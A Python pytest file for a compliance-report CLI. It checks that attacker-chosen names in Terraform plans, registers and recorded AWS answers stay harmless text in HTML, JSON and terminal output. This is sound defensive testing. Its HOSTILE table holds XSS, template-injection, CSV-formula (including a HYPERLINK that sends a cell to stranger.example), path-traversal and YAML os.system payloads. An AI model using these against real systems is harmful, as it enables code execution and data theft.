"""Names, tags, cells and files that strangers chose: nothing of them runs, hides, breaks a format or stops a run.

They come the three ways that evidence comes: a plan, registers and the answers of an API. What they may do is stand in
a report as text.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from aws_cassette import Cassette, Kept, Told
from campaign import COLLECTED, Recorded, demand, desk, made_up_credentials, source
from lengths import in_turn
from observation_lines import single
from terraform_plans import plan, resource

from grc.cli import main
from grc.evidence import PackWriter, RunFacts, SourceUsed, open_assessment, open_pack
from grc.model.evidence import Demand

HOSTILE: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single": "' autofocus onfocus='alert(1)",
    "closing": "</title></style></script></textarea><svg/onload=alert(1)>",
    "comment": "--><img src=x onerror=alert(1)>",
    "entity": "&lt;script&gt;&#60;b&#62; &",
    "url": "javascript:alert(1)//https://",
    "template": "{{7*7}}{% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}${7*7}#{7*7}",
    "expression": "{resource.Name} {{ {1/0} }",
    "escape": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J",
    "control": "a\x00b\x08c\x7fd\r\ne\tf\x85g\x0bh",
    "bidi": "user\u202egnp.exe\u2066x\u2069\u200f\u061c",
    "unseen": "a\u200bb\ufeffc\u00add\u2028e\u2029f\U000e0041",
    "formula": '=HYPERLINK("http://stranger.example?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "backslash": "..\\..\\con:nul\\\\server\\share",
    "percent": "%3Cscript%3E%00%n%s%(x)s",
    "yaml": "- &a [*a, !!python/object:os.system {}] # %YAML",
    "json": '"}],"verdict":"pass",{"x":[',
    "letters": "研究 👩‍⚕️ ﷽ ẞ ı İ ﬃ",
    "long": "long" * 5000,
    "spaces": "  two  spaces  ",
}
SAFE_CONTROLS = frozenset("\n")
REFUSED = ("Cc", "Cs", "Zl", "Zp")
REORDERING = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
LINKS = ("#", "https://")


@dataclass(frozen=True)
class Ran:
    code: int
    out: str
    err: str


Grc = Callable[..., Ran]


@pytest.fixture
def grc(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Grc:
    """Run ``grc`` in this process. What it prints may drive no terminal; a traceback comes out as an exception."""
    monkeypatch.chdir(tmp_path)

    def run(*arguments: object, codes: tuple[int, ...] = (0,)) -> Ran:
        with pytest.raises(SystemExit) as ended:
            main([str(argument) for argument in arguments])
        captured = capfd.readouterr()
        assert ended.value.code in codes, captured.err
        assert isinstance(ended.value.code, int)
        assert_harmless_to_a_terminal(captured.out + captured.err)
        return Ran(ended.value.code, captured.out, captured.err)

    return run


def assert_harmless_to_a_terminal(text: str) -> None:
    bad = {char for char in text if unicodedata.category(char) in REFUSED or char in REORDERING} - SAFE_CONTROLS
    assert not bad, f"printed {sorted(map(ascii, bad))}"


@dataclass
class Page(HTMLParser):
    """What a browser would make of a page: elements, their attributes, what runs, and what is read."""

    elements: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    links: set[str] = field(default_factory=set)
    running: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    _open: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {f"{tag} {name}" for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in ("href", "src", "action", "data")}
        self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        runs = self._open and self._open[-1] in ("script", "style")
        (self.running if runs else self.text).append(data)


def read_page(path: Path) -> Page:
    page = Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def assert_strict_json(path: Path) -> Any:
    def refuse(name: str) -> None:
        raise AssertionError(f"{name} is no JSON")

    return json.loads(path.read_bytes().decode("utf-8"), parse_constant=refuse)


def assert_holds(grc: Grc, pack: Path, benign: Page, *names: str) -> Page:
    """Pack and reports stand: verified, performed again, and with no element, script or link but the benign ones."""
    grc("verify", pack)
    assert '"same": true' in grc("reperform", pack, "--format", "json").out
    grc("report", pack, "--format", "json", "--out", pack.parent / "report.json")
    assert_strict_json(pack.parent / "report.json")
    grc("report", pack, "--format", "html", "--out", pack.parent / "report.html")
    page = read_page(pack.parent / "report.html")
    assert page.elements <= benign.elements
    assert page.attributes <= benign.attributes
    assert [text for text in page.running if "@page" not in text] == [
        text for text in benign.running if "@page" not in text
    ]
    assert all(link.startswith(LINKS) for link in page.links), page.links
    assert_harmless_to_a_terminal("".join(page.text).replace("\t", " "))
    said = "".join(page.text)
    for name in names:
        assert name in said, name
    return page


def buckets(names: Mapping[str, str]) -> dict[str, Any]:
    """A plan with a bucket, a group, a volume and a database for each name, named, tagged and described by it."""
    found = []
    for key, name in names.items():
        index = f'["{name}"]'
        tags = {"tags_all": {name: name, "Name": name}}
        found += [
            resource(f"aws_s3_bucket.x{index}", {"bucket": name, **tags}, unknown={"id": True}),
            resource(f"aws_ebs_volume.{key}", {"encrypted": False, "kms_key_id": name, **tags}),
            resource(
                f"aws_security_group.{key}",
                {
                    "name": name,
                    "description": name,
                    "ingress": [
                        {"protocol": "tcp", "from_port": 22, "to_port": 22, "cidr_blocks": ["0.0.0.0/0", name]}
                    ],
                },
            ),
            resource(f"aws_db_instance.{key}", {"identifier": name, "storage_encrypted": False, "engine": name}),
        ]
    return plan(*found)


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Page:
    """The report of the same plan and registers, with harmless names."""
    folder = tmp_path_factory.mktemp("benign")
    names = {key: f"name-{number}" for number, key in enumerate(HOSTILE)}
    workspace(folder, "Example", names)
    (folder / "plan.json").write_text(json.dumps(buckets(names)))
    for arguments in (
        ["scan", folder / "plan.json", "registers", "--workspace", folder, "--out", folder / "pack", "--quiet"],
        ["report", folder / "pack", "--out", folder / "report.html"],
    ):
        with pytest.raises(SystemExit):
            main([str(argument) for argument in arguments])
    return read_page(folder / "report.html")


def workspace(folder: Path, organisation: str, names: Mapping[str, str]) -> None:
    """A workspace with names in every cell of its registers, in its own name, and in a waiver."""
    told = json.dumps(organisation)
    (folder / "grc.yaml").write_text(f"format: grc.workspace/1\norganisation: {{name: {told}}}\n")
    waiver = {
        "id": "W-1",
        "check": "aws.ec2.volume.encrypted",
        "subject": "aws_ebs_volume.script",
        "reason": organisation,
        "requested-by": organisation,
        "approved-by": "Somebody Else",
        "approved-on": (COLLECTED - timedelta(days=30)).date().isoformat(),
        "until": (COLLECTED + timedelta(days=300)).date().isoformat(),
        "tracking": organisation,
    }
    (folder / "waivers.yaml").write_text(json.dumps({"format": "grc.waivers/1", "waivers": [waiver]}))
    (folder / "registers").mkdir()
    for register in ("people", "training", "continuity-tests"):
        kind = desk().kinds[f"register.{register}"]  # type: ignore[index]
        columns = sorted(kind.shape.fields)
        out = io.StringIO(newline="")
        writer = csv.writer(out)
        writer.writerow([*columns, "column-of-a-stranger"])
        for name in names.values():
            writer.writerow([name.replace("\0", "")] * (len(columns) + 1))
        (folder / "registers" / f"{register}.csv").write_text(out.getvalue(), encoding="utf-8", newline="")


def test_hostile_plans_and_registers_are_text(grc: Grc, tmp_path: Path, benign: Page) -> None:
    workspace(tmp_path, "Clinic <script>alert(1)</script> {{7*7}} \\ \" '", HOSTILE)
    (tmp_path / "plan.json").write_text(json.dumps(buckets(HOSTILE)))
    pack = tmp_path / "pack"
    ran = grc("scan", "plan.json", "registers", "--workspace", tmp_path, "--out", pack, codes=(3,))
    assert "{{7*7}}" in ran.out.split("checks:")[0]
    seen = [name for key, name in HOSTILE.items() if key in ("script", "attribute", "closing", "template", "formula")]
    page = assert_holds(grc, pack, benign, *seen)
    assert "U+202E" in "".join(page.text)
    assert "U+001B" in "".join(page.text)
    assert (tmp_path / "report.html").stat().st_size < 3_000_000
    ran = grc("explain", "aws.s3.bucket.versioning", "--pack", pack, "--workspace", tmp_path)
    assert "<script>alert(1)</script>" in ran.out
    subject = f'aws_s3_bucket.x["{HOSTILE["script"]}"]'
    grc("explain", "aws.s3.bucket.versioning", "--pack", pack, "--subject", subject, "--workspace", tmp_path)
    assert not list(tmp_path.glob("../passwd"))


ALL_ALONE = ("escape", "control", "bidi", "unseen", "closing", "path", "json", "long")
ALONE = tuple(key for number, key in enumerate(ALL_ALONE) if in_turn(number, 2))


@pytest.mark.parametrize("key", ALONE)
@pytest.mark.slow
def test_one_hostile_name_alone_is_text(grc: Grc, tmp_path: Path, benign: Page, key: str) -> None:
    names = {key: HOSTILE[key]}
    workspace(tmp_path, "Example", names)
    (tmp_path / "plan.json").write_text(json.dumps(buckets(names)))
    pack = tmp_path / "pack"
    grc("scan", "plan.json", "registers", "--workspace", tmp_path, "--out", pack, codes=(3, 4))
    assert_holds(grc, pack, benign)


VOLUME = resource("aws_ebs_volume.x", {"encrypted": False, "size": "SIZE"})
NUMBERS = {
    "huge-integer": str(2**70),
    "huger-integer": "9" * 5000,
    "infinite": "1e400",
    "not-a-number": "NaN",
    "infinity": "-Infinity",
    "negative-zero": "-0.0",
    "long-fraction": "0." + "1" * 400,
    "tiny": "1e-400",
    "deep": "[" * 300 + "]" * 300,
    "deeper": "[" * 100_000 + "]" * 100_000,
    "surrogate": '"\\ud800"',
    "surrogates-swapped": '"\\udc00\\ud800"',
    "null-character": '"\\u0000"',
    "null": "null",
    "object": '{"a": {"b": {}}}',
    "true": "true",
}


EVERYWHERE = ("surrogate", "not-a-number", "huge-integer", "deep")
PLACES = ("value", "deciding", "tag", "address", "version")
AT_ONCE = (("deciding", "infinite"), ("deciding", "not-a-number"), ("deciding", "true"), ("version", "surrogate"))
EDGES = [
    pytest.param(key, place, marks=() if (place, key) in AT_ONCE else pytest.mark.slow)
    for number, place in enumerate(PLACES)
    for at, key in enumerate(NUMBERS)
    if (place, key) in AT_ONCE or in_turn(number + at, 3)
    if place == "deciding" or key in EVERYWHERE
]


@pytest.mark.parametrize(("key", "place"), EDGES)
def test_json_at_its_edges_is_decided_or_said(grc: Grc, tmp_path: Path, key: str, place: str) -> None:
    """What no record can hold is an error with advice, or a gap; never a traceback, and never a pass."""
    text = json.dumps(plan(VOLUME, resource("aws_ebs_volume.y", {"encrypted": True})))
    edge = NUMBERS[key]
    quoted = edge if edge.startswith('"') else json.dumps(edge[:200])
    changed = {
        "value": lambda: text.replace('"SIZE"', edge),
        "deciding": lambda: text.replace("false", edge),
        "tag": lambda: text.replace('"size": "SIZE"', f'"tags_all": {{"a": {edge}, {quoted}: "b"}}'),
        "address": lambda: text.replace("aws_ebs_volume.x", f"aws_ebs_volume.x[{quoted[1:-1]}]"),
        "version": lambda: text.replace('"1.9.8"', edge),
    }[place]()
    (tmp_path / "plan.json").write_text(changed)
    pack = tmp_path / "pack"
    true = (place, key) == ("deciding", "true")
    codes = (0,) if true else (2, 3, 4)
    ran = grc("scan", "plan.json", "--out", pack, "--check", "aws.ec2.volume.encrypted", codes=codes)
    if ran.code == 2:
        assert "plan.json" in ran.err
        assert not pack.exists()
        return
    grc("verify", pack)
    assert '"same": true' in grc("reperform", pack, "--format", "json").out
    verdicts = {seen["subject"]: seen["verdict"] for seen in observations(pack)}
    assert verdicts.pop("aws_ebs_volume.y") == "pass"
    (verdict,) = verdicts.values()
    assert verdict in (("pass",) if true else ("fail", "unknown"))
    grc("report", pack, "--format", "html", "--out", tmp_path / "report.html")


def observations(pack: Path) -> Iterator[dict[str, Any]]:
    for chunk in open_assessment(open_pack(pack)).observations():
        yield from single(chunk)


GRC = "from grc.cli import main; main()"


@pytest.mark.parametrize(
    "name",
    [
        b"<script>alert(1)</script>.json".replace(b"/", b"\\"),
        b"a\n\x1b[31mb.json",
        b"\xff\xfe.json",
        b"%2e%2e.json",
        b"-x.json",
    ],
    ids=["script", "escape", "not-utf-8", "percent", "dash"],
)
def test_a_plan_file_of_any_name_is_read_or_refused(tmp_path: Path, name: bytes) -> None:
    (tmp_path / os.fsdecode(name)).write_text(json.dumps(buckets({"a": "b"})))
    pack = tmp_path / "pack"
    run = subprocess.run(
        [sys.executable, "-c", GRC, "scan", b"./" + name, "--out", pack, "--check", "aws.ec2.volume.encrypted"],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"},
        capture_output=True,
        check=False,
    )
    assert run.returncode in (2, 3), run.stderr
    assert b"Traceback" not in run.stderr
    assert_harmless_to_a_terminal((run.stdout + run.stderr).decode("utf-8", "strict"))
    assert pack.exists() is (run.returncode == 3)
    (tmp_path / os.fsdecode(name)).write_text("{")
    again = subprocess.run(run.args, cwd=tmp_path, capture_output=True, check=False)
    assert again.returncode == 2
    assert b"Traceback" not in again.stderr
    assert_harmless_to_a_terminal(again.stderr.decode("utf-8", "strict"))


def test_a_stranger_s_column_and_yaml_registers_are_text(grc: Grc, tmp_path: Path) -> None:
    workspace(tmp_path, "Example", {})
    rows = [{"person_id": name, HOSTILE["script"]: name, "role": {"a": [name]}} for name in HOSTILE.values()]
    (tmp_path / "registers" / "people.csv").unlink()
    (tmp_path / "registers" / "people.yaml").write_text(json.dumps({"format": "grc.register/1", "rows": rows}))
    (tmp_path / "registers" / "training.csv").write_text(
        f"person_id,{HOSTILE['script']},{HOSTILE['escape']},\u202ex\n1,2,3,4\n", encoding="utf-8"
    )
    pack = tmp_path / "pack"
    ran = grc("scan", "registers", "--workspace", tmp_path, "--out", pack, codes=(3, 4))
    assert ran.out
    grc("verify", pack)
    grc("reperform", pack)
    grc("report", pack, "--format", "html", "--out", tmp_path / "report.html")
    assert "script>alert" not in (tmp_path / "report.html").read_text()


@pytest.fixture
def offline() -> Iterator[None]:
    with made_up_credentials():
        yield


RENAMED = (b"patients", b"wide", b"clinic-everything", b"web servers", b"simulated by moto")
XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def renamed(kept: Kept, name: str) -> Kept:
    """An answer in which resources, descriptions and tags are called otherwise."""
    text = kept.body.decode()
    is_json = text.startswith("{")
    written = json.dumps(name)[1:-1] if is_json else escape(XML.sub("", name), {'"': "&quot;"})
    for old in RENAMED:
        text = text.replace(old.decode(), written)
    if is_json:
        text = re.sub(r'"Description": "[^"]*"', lambda _: f'"Description": "{written}"', text)
    text = re.sub(r"(<(?:value|Value|groupDescription|groupName)>)[^<]*", lambda found: found[1] + written, text)
    headers = {key: value for key, value in kept.headers.items() if key.lower() != "content-length"}
    return replace(kept, body=text.encode(), headers=headers)


@pytest.mark.parametrize("key", ["script", *(pytest.param(key, marks=pytest.mark.slow) for key in ALONE)])
def test_a_hostile_account_is_text(
    grc: Grc, tmp_path: Path, estate: Recorded, offline: None, account: Page, key: str
) -> None:
    renamed_answers = {asked: renamed(kept, HOSTILE[key]) for asked, kept in estate.kept.items()}
    tape = Cassette(kept=renamed_answers, otherwise=Kept(403, {}, b""))  # nothing is on record under the new names
    pack = tmp_path / "pack"
    collected(tape, pack, None if key == "script" else beside())
    opened = open_pack(pack)
    said = b"".join(chunk for each in opened.populations() for chunk in opened.lines(each))
    whole = XML.sub("", HOSTILE[key]).partition("\r")[0]  # XML reads line ends as one
    assert json.dumps(whole, ensure_ascii=False)[1:-1].encode() in said
    grc("assess", pack, "--as-of", "2099-01-01", codes=(3, 4))
    assert_holds(grc, pack, account)


def collected(tape: Cassette, pack: Path, wanted: Demand | None = None) -> None:
    scope = {"providers": ["aws"], "checks": sorted(desk().policy.checks), "organisation": None, "timezone": "UTC"}
    with PackWriter(pack, RunFacts(id="r", started=COLLECTED, engine="0", scope=scope), desk().kinds) as writer:
        source(tape).collect(demand() if wanted is None else wanted, writer, Told())
        writer.seal(finished=COLLECTED, sources=[SourceUsed(name="aws", version="1")])


def beside() -> Demand:
    """What is read of the services that a name stands in, and of some beside them."""
    some = ("aws.kms.", "aws.s3.", "aws.iam.", "aws.account", "aws.ec2.", "aws.rds.", "aws.cloudtrail.")
    return {kind: read for kind, read in demand().items() if kind.startswith(some)}


@pytest.fixture(scope="module")
def account(estate: Recorded, tmp_path_factory: pytest.TempPathFactory) -> Page:
    """The report of the account as it was."""
    folder = tmp_path_factory.mktemp("account")
    with made_up_credentials():
        collected(estate.tape(), folder / "pack")
    for arguments in (
        ["assess", folder / "pack", "--as-of", "2099-01-01"],
        ["report", folder / "pack", "--out", folder / "report.html"],
    ):
        with pytest.raises(SystemExit):
            main([str(argument) for argument in arguments])
    return read_page(folder / "report.html")


@pytest.mark.parametrize(
    "edges",
    [
        ('"\\ud800"',),
        pytest.param(("1e400", "NaN", str(2**70), '"\\u0000"'), marks=pytest.mark.slow),
        pytest.param(("[" * 300 + "]" * 300, "[" * 2000 + "]" * 2000), marks=pytest.mark.slow),
    ],
    ids=["surrogate", "values", "deep"],
)
def test_an_answer_at_the_edges_of_json_stops_nothing(
    estate: Recorded, offline: None, tmp_path: Path, grc: Grc, edges: tuple[str, ...]
) -> None:
    """Keys' descriptions are no text: each record, or its unit, has a gap; all the others are as they were."""
    kept, turn = dict(estate.kept), itertools.cycle(edges)
    keys = [asked for asked in estate.kept if asked[1] == "DescribeKey"]
    assert len(keys) >= len(edges)
    for asked, answer in estate.kept.items():
        if asked in keys:
            edge = next(turn)
            text = re.sub(
                r'"Description": "[^"]*"', lambda _, edge=edge: f'"Description": {edge}', answer.body.decode()
            )
            headers = {key: value for key, value in answer.headers.items() if key.lower() != "content-length"}
            kept[asked] = replace(answer, body=text.encode(), headers=headers)
    pack = tmp_path / "pack"
    collected(Cassette(kept=kept), pack, beside())
    grc("verify", pack)
    grc("assess", pack, "--as-of", "2099-01-01", codes=(3, 4))
    grc("reperform", pack)
    whole = {each.unit.kind for each in open_pack(pack).populations() if each.complete}
    assert len(whole) >= 12
